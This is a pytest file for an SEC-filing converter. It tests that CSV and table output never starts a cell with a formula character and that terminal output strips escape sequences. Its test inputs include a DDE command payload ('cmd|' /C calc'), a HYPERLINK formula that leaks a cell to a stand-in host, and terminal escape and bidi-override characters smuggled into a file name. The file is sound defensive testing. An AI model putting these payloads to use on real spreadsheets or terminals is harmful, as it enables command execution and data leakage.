"""What a filing says is no formula in a spreadsheet, and no command to a terminal."""

import csv
import io
import re
from pathlib import Path

import pytest

from converter.cli import Stage, main
from converter.options import read_rules
from converter.pipeline import convert
from converter.sec_tables import sec_tables
from converter.taxonomy import load_taxonomy
from converter.xml_text import for_terminal, no_formula

GOOD = Path(__file__).parents[1] / "errors" / "codes" / "entity.no-cik" / "input.txt"
STARTS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
FORMULA = '=HYPERLINK("//x/"&A1)'


@pytest.mark.parametrize("start", STARTS)
def test_a_formula_is_words(start: str) -> None:
    assert no_formula(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
    assert no_formula(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["-1", "+1.50", "-1E+5", "1-1", "Cash = 1", "", "x:A"])
def test_numbers_and_words_are_as_they_are(text: str) -> None:
    assert no_formula(text) == text


def _injected(word: str) -> bytes:
    """A good filing with another label in the place of one."""
    text = GOOD.read_text("utf-8")
    return re.sub("Net sales *", lambda found: word.ljust(len(found[0])), text).encode()


@pytest.mark.parametrize("word", [FORMULA, "+1+1 sales", "-2+3 sales", "@SUM(1) sales"])
def test_rules_for_a_spreadsheet_hold_no_formula(
    word: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "in.txt").write_bytes(_injected(word))
    rules = tmp_path / "rules.csv"
    assert main(["map", str(tmp_path / "in.txt"), "--edit", str(rules)]) == 0
    capsys.readouterr()
    cells = [*csv.reader(io.StringIO(rules.read_text("utf-8-sig"), newline=""))]
    assert any(word[1:4] in cell for row in cells for cell in row)
    assert not any(cell.startswith(tuple(STARTS)) for row in cells for cell in row)
    assert len(read_rules(rules)) == len(cells) - 1


@pytest.mark.parametrize("word", [FORMULA, "+1+1 sales", "@SUM(1) sales"])
def test_tables_hold_no_formula(word: str) -> None:
    conversion = convert(_injected(word), name="x.txt")
    for data in sec_tables(conversion, load_taxonomy("us-gaap-2024")).values():
        for line in data.decode().split("\n"):
            for cell in line.split("\t"):
                assert no_formula(cell) == cell


SHOWING = [
    *(["inspect", "IN", "--stage", stage.value] for stage in Stage),
    *(["check", "IN", "--verbose"], ["map", "IN"], ["explain", "IN", "12"]),
    ["convert", "IN", "--verbose", "--no-validate", "-o", "OUT"],
]


@pytest.mark.parametrize("command", SHOWING, ids=" ".join)
def test_a_terminal_is_not_commanded(
    command: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "in\x1b[2J.txt").write_bytes(_injected("Net \x1b[2J\x07sales\u202e\x9b1m"))
    places = {"IN": str(tmp_path / "in\x1b[2J.txt"), "OUT": str(tmp_path / "out")}
    main([places.get(word, word) for word in command])
    said = "".join(capsys.readouterr())
    assert said
    assert not {"\x1b", "\x07", "\u202e", "\x9b"} & set(said)


def test_what_a_terminal_would_obey_is_a_picture(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "in.txt").write_bytes(_injected("Net \x1b[2J\x07sales"))
    assert main(["inspect", str(tmp_path / "in.txt"), "--stage", "tables"]) == 0
    assert "\u241b[2J" in capsys.readouterr().out


def test_a_row_of_stars_is_no_table_to_show(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    stars = f"{'':38}* * *\n\n\n".encode()
    (tmp_path / "in.txt").write_bytes(stars + GOOD.read_bytes())
    assert main(["inspect", str(tmp_path / "in.txt"), "--stage", "tables"]) == 0
    assert "columns" in capsys.readouterr().out


def test_what_is_harmless_is_printed() -> None:
    text = "Net sales\t1,000 \u2013 caf\xe9\n"
    assert for_terminal(text) == text
